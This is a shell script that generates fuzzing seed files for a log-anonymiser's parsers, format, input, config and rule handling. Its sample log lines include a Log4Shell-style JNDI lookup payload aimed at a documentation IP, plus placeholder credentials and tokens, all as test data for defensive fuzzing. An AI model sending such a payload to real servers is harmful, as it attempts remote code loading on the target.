#!/bin/sh
# seeds.sh: seed inputs for the fuzz targets.
#   seeds.sh own     (re)writes the committed seeds in tests/fuzz/corpus/TARGET/
#                    from text written for this project (documentation
#                    addresses only) and conf/, filters/;
#   seeds.sh shared DIR   writes seeds cut from ../shared/corpus/ (real logs,
#                    not copied into this repository) to DIR/TARGET/; run.sh
#                    adds them to the seed corpus when ../shared is there.
# A seed file is named by the SHA-1 of its bytes, as libFuzzer names them.
# Byte layouts are described at the top of each tests/fuzz/fuzz_*.c.
set -eu
cd "$(dirname "$0")/../.."
mode=${1:-own}
case "$mode" in
own) out=tests/fuzz/corpus ;;
shared) out=${2:?usage: seeds.sh shared DIR} ;;
*) echo "usage: $0 own | shared DIR" >&2; exit 2 ;;
esac
tmp=$(mktemp)
trap 'rm -f "$tmp" "$tmp.gz"' EXIT

# put TARGET: stores stdin as one seed of TARGET.
put() {
    mkdir -p "$out/$1"
    cat >"$tmp"
    cp "$tmp" "$out/$1/$(sha1sum "$tmp" | cut -c1-40)"
}
# hdr BYTE...: writes the given bytes (decimal) to stdout.
hdr() {
    for b in "$@"; do printf "\\$(printf '%03o' "$b")"; done
}
JSON=13 # fuzz_parse: byte 0 % (presets + 3); 14 presets are auto-detected today,
POLICIES=14 # then the "policies" format, auto, and "apache-fields" (fuzz_parse.c)
AUTO=15
APACHE_FIELDS=16

# ---- the project's own seeds ----
own_lines() {
    cat conf/sample.log
    cat <<'EOF'
192.0.2.17 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-"
2001:db8:85a3:1:2:8a2e:370:7334 - - [10/Oct/2025:13:55:36 +0200] "GET /a?b=1 HTTP/1.1" 200 1 "-" "-"
192.0.2.9 - alice [10/Oct/2025:13:55:36 +0200] "GET /x HTTP/1.1" 404 - "http://203.0.113.5/ref?ip=198.51.100.7" "bot/1.0 (+admin@example.org)"
192.0.2.9 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-" "198.51.100.1, [2001:db8::7]:4711, unknown, 192.0.2.4:8080"
www.example.com:443 192.0.2.9 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 5 "-" "UA"
www.example.com 192.0.2.9 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 5 "-" "UA"
198.51.100.3, 192.0.2.1 203.0.113.9 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 5 "-" "UA"
"198.51.100.3, 192.0.2.1" 203.0.113.9 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 5 "-" "UA"
192.0.2.8 - - [10/Oct/2025:13:55:36 +0000] "GET /api HTTP/1.1" 200 59 "-" "curl/8.0" 93 0.001 [default-web-8080] [] 10.1.2.3:8080 59 0.000 200 f479ab1d9cc8afcbac9e9f958ff8babc
shop.example.com 192.0.2.8 - 3f2a9c - [10/Oct/2025:13:55:36 +0000] "GET / HTTP/1.1" 200 5 "-" "UA"
[10/Oct/2025:13:55:36 +0000] 192.0.2.8 TLSv1.3 TLS_AES_256_GCM_SHA384 "GET / HTTP/1.1" 5120
{"ts":"2025-10-10T13:55:36Z","remote_ip":"192.0.2.9","xff":"198.51.100.1, 2001:db8::1","uri":"/a"}
Sep 15 16:13:46 web nginx[2869]: 192.0.2.5 - - [15/Sep/2025:16:13:46 +0000] "GET / HTTP/1.1" 200 1 "-" "-"
2022-01-28T16:04:05.123Z stdout F 192.0.2.5 - - [28/Jan/2022:16:04:05 +0000] "GET / HTTP/1.1" 200 1 "-" "-"
192.0.2.5 - - [10/Oct/2025:13:55:36 +0000] "GET / HTTP/1.1" 200 1 "-" "-" 12 "router@docker" "http://10.0.0.7:80" 3ms
fe80::1%eth0 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 502 0 "-" "-"
::ffff:192.0.2.44 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-"
client-7.example.net - ident [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1
192.0.2.6 - - [10/Oct/2025:13:55:36 +0200] "\x16\x03\x01\x00\xa5\x01" 400 157 "-" "-"
192.0.2.6 - - [10/Oct/2025:13:55:36 +0200] "GET /q?u=${jndi:ldap://198.51.100.9/a} HTTP/1.1" 400 0 "${jndi:ldap://198.51.100.9/a}" "-"
2021/09/30 09:23:53 [error] 123#0: *1 open() failed, client: 192.0.2.77, server: _, request: "GET / HTTP/1.1"
garbage line with 10.20.30.40 and 2001:db8:1::2 inside
EOF
}
# fuzz_parse: the field kinds of issue 11 (cookies, credentials, bodies,
# $arg_NAME, free text, JSON keys), "@@" where the harness plants an e-mail.
field_seeds() {
    for m in 0 1 2; do
        { hdr $POLICIES $m; cat <<'EOF'; } | put fuzz_parse
192.0.2.9 - alice [10/Oct/2025:13:55:36 +0200] "GET /a?e=@@ HTTP/1.1" 200 1 "http://203.0.113.5/r?u=@@" "bot/1.0 (+@@)" "sid=abc; e=@@; ip=198.51.100.7" @@ "Basic @@" "k@@" @@ "user=@@&password=hunter2" "CN=x,emailAddress=@@" "id=@@; Domain=198.51.100.8" 0.001 @@
2001:db8::9 - - [10/Oct/2025:13:55:36 +0200] "POST /login HTTP/1.1" 302 0 "-" "curl/8" "_ga=GA1.2.3; PHPSESSID=x" abc "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln" "ping%20198.51.100.9" - "{\x22email\x22:\x22@@\x22}" "-" "-" 0.002 f479ab1d9cc8afcbac9e9f958ff8babc
EOF
        { hdr $APACHE_FIELDS $m; cat <<'EOF'; } | put fuzz_parse
192.0.2.9 - bob [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "_ga=@@; x=198.51.100.7" "Bearer @@" "sid=@@; Path=/" "CN=x,emailAddress=@@" @@ "note @@" abc "Mozilla/5.0 (+@@)"
EOF
        { hdr $JSON $m; cat <<'EOF'; } | put fuzz_parse
{"remote_addr":"192.0.2.9","remote_user":"@@","http_cookie":"a=@@","http_authorization":"Basic @@","request_body":"{\"email\":\"@@\"}","http_user_agent":"bot (+@@)","note":"@@ 198.51.100.7","request":{"headers":{"Cookie":["x=@@"],"User-Agent":["@@"],"X-Forwarded-For":["198.51.100.4, client.example.net"]}}}
EOF
    done
}
own() {
    rm -rf "$out"/fuzz_parse "$out"/fuzz_format "$out"/fuzz_input "$out"/fuzz_conffile \
        "$out"/fuzz_rules
    # fuzz_parse: each line alone, in auto mode and as each preset, each IP mode.
    i=0
    own_lines | while IFS= read -r l; do
        { hdr $AUTO $((i % 3)); printf '%s\n' "$l"; } | put fuzz_parse
        { hdr $((i % 14)) $((i % 3 + 1)); printf '%s\n' "$l"; } | put fuzz_parse
        i=$((i + 1))
    done
    { hdr $AUTO 1; own_lines; } | put fuzz_parse
    { hdr 0 0; printf '192.0.2.1 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-"\r\n'; } | put fuzz_parse
    { hdr 0 1; printf '192.0.2.1 - - [10/Oct/2025:13:55:36 +0200] "GET /\000 HTTP/1.1" 200 1 "-" "-"'; } | put fuzz_parse
    field_seeds

    # fuzz_format: byte 0 even = Apache, odd = nginx; spec NUL line.
    while IFS='|' read -r d spec line; do
        { hdr "$d"; printf '%s\000%s' "$spec" "$line"; } | put fuzz_format
    done <<'EOF'
0|%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\"|192.0.2.1 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-"
0|%h %l %u %t "%r" %>s %b|192.0.2.1 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1
0|%v:%p %h %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i"|www.example.com:443 192.0.2.1 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-"
0|%t %h %{SSL_PROTOCOL}x %{SSL_CIPHER}x "%r" %b|[10/Oct/2025:13:55:36 +0000] 192.0.2.8 TLSv1.3 TLS_AES_256_GCM_SHA384 "GET / HTTP/1.1" 5120
0|%a %{c}a %A %{%Y-%m-%d %H:%M:%S}t %m %U%q %H %s %<s %B %I %S %D %T %k %V %P %X %L %R %f %M %{cookie}C %{VAR}e %{note}n %400,501{User-agent}i %%|192.0.2.1 10.0.0.1 10.0.0.2 2025-10-10 13:55:36 GET /a?b=1 HTTP/1.1 200 200 5 10 20 300 0 0 www 42 + - - - - - - - - %
1|$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"|192.0.2.1 - - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-" "198.51.100.1"
1|$host $remote_addr - $request_id $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"|h 192.0.2.1 - abc - [10/Oct/2025:13:55:36 +0200] "GET / HTTP/1.1" 200 1 "-" "-"
1|${remote_addr} [$time_iso8601] "$request_uri" $args $upstream_addr $request_time $msec|192.0.2.1 [2025-10-10T13:55:36+02:00] "/a" b=1 10.0.0.1:80, 10.0.0.2:80 0.001 1700000000.123
1|{$json_body}|{"a":"192.0.2.1"}
1|escape=json '{"ip":"$remote_addr","t":"$time_local"}'|x
0|%h%l|x
0|%{|x
1|$|x
0|%>|x
EOF

    # fuzz_input: byte 0 flags (1 gzip here, 2 two members, 4 cut short,
    # 8+16 over 1 MiB), byte 1 parameter, then the payload.
    { hdr 0 0; own_lines; } | put fuzz_input
    { hdr 1 0; own_lines; } | put fuzz_input
    { hdr 3 40; own_lines; } | put fuzz_input
    { hdr 5 3; own_lines; } | put fuzz_input
    { hdr 24 0; printf 'x'; } | put fuzz_input
    { hdr 25 0; printf 'abcdefgh'; } | put fuzz_input
    { hdr 0 0; printf 'a\r\nb\r\nlast without newline'; } | put fuzz_input
    { hdr 0 0; printf 'nul\000inside\n\n\n'; } | put fuzz_input
    { hdr 0 0; printf 'BZh91AY&SY'; } | put fuzz_input
    { hdr 0 0; printf '\375\067\172\130\132\000'; } | put fuzz_input
    { hdr 0 0; printf '\050\265\057\375'; } | put fuzz_input
    own_lines | head -5 | gzip -c >"$tmp.gz"
    { hdr 0 0; cat "$tmp.gz" "$tmp.gz"; printf '\000\000\000\000'; } | put fuzz_input
    { hdr 0 0; head -c 100 "$tmp.gz"; } | put fuzz_input
    { hdr 0 0; cat "$tmp.gz"; printf 'trailing junk'; } | put fuzz_input

    # fuzz_conffile: the example with every option switched on, and pieces.
    sed -n 's/^# \([a-z0-9-]*\) = \([^#]*\).*$/\1 = \2/p' conf/lognym.conf | put fuzz_conffile
    put fuzz_conffile <conf/lognym.conf
    printf 'ip-mode = hash\r\nquiet = yes\n  # comment\n\nbad-lines=drop' | put fuzz_conffile
    printf 'no-such-option = 1\n' | put fuzz_conffile
    printf 'ipv4-prefix = 33\n' | put fuzz_conffile
    printf 'format\n' | put fuzz_conffile

    # fuzz_rules: every shipped rule file, and the syntax's corners.
    for f in filters/*.rules; do
        [ -f "$f" ] && put fuzz_rules <"$f"
    done
    printf 'rule a\n    value   x+\n    action  redact a\n    expect  /?q=xx => /?q=%%5Ba%%5D\n' |
        put fuzz_rules
    printf 'rule b\n    name    (?i)token\n    action  drop\n' | put fuzz_rules
    printf 'rule c\n    value   (\n' | put fuzz_rules
}

# ---- seeds cut from ../shared/corpus (not committed) ----
shared() {
    dir=${SHARED:-../shared}/corpus
    [ -d "$dir" ] || { echo "# seeds.sh: $dir is absent; no shared seeds"; return 0; }
    i=0
    for f in "$dir"/*.log; do
        n=$(wc -l <"$f")
        step=$((n / 8 + 1))
        # every step-th line alone, and the file's first 5 lines together
        awk -v s=$step '(NR - 1) % s == 0' "$f" | while IFS= read -r l; do
            { hdr $AUTO $((i % 3)); printf '%s\n' "$l"; } | put fuzz_parse
            i=$((i + 1))
        done
        { hdr $AUTO 1; head -n 5 "$f"; } | put fuzz_parse
        { hdr 0 0; head -n 20 "$f"; } | put fuzz_input
        { hdr 1 0; head -n 20 "$f"; } | put fuzz_input
    done
}

$mode
